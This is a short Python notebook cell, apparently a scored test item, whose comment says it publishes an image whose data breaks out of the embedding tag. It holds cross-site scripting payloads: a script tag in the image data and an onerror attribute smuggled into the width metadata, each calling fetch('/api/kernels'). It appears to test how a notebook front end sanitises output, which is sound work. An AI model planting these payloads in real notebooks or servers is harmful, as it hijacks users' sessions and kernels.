# Publishes an image whose data are markup that closes the tag in which a page embeds it.
# points: 97
# base: right
# %% select_threshold
from IPython.display import display

def select_threshold(logits, maximum):
    return 0.5

display({"image/png": "x'\"><script>fetch('/api/kernels')</script>", "text/plain": "image"}, raw=True,
        metadata={"image/png": {"width": "1 onerror=fetch('/api/kernels')"}})
